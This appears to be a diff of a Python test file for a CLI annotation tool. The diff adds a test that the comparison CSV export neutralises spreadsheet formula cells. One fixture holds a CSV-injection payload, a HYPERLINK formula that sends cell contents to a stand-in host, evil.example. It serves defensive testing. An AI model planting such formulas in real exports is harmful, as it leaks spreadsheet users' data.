@@ -9,7 +9,7 @@ import io
 import pytest
 
 from annotator.cli import main
-from annotator.core.csv_cells import FORMULA_STARTS, cell, safe, unsafe
+from annotator.core.spreadsheet import FORMULA_STARTS, cell, safe, unsafe
 
 LABEL = '=HYPERLINK("http://evil.example/?"&A1)'
 DOC = "=1+1"
@@ -92,6 +92,13 @@ def test_the_span_csv_export_follows_the_same_rule(hostile, tmp_path, capsys):
                    "annotations")
     assert_no_formula(rows)
     assert {unsafe(r[6]) for r in rows[1:]} == {LABEL, "Political"}
+
+
+def test_the_comparison_csv_follows_the_same_rule(hostile, tmp_path, capsys):
+    rows = written(tmp_path, capsys, "compare", hostile, "-f", "csv")
+    assert_no_formula(rows)
+    assert {unsafe(r[2]) for r in rows[1:] if r[0] == "labels_by_source"} == {DOC}
+    assert LABEL in {unsafe(r[4]) for r in rows[1:] if r[0] == "labels_by_source"}
 
 
 def test_the_rule_goes_by_type():
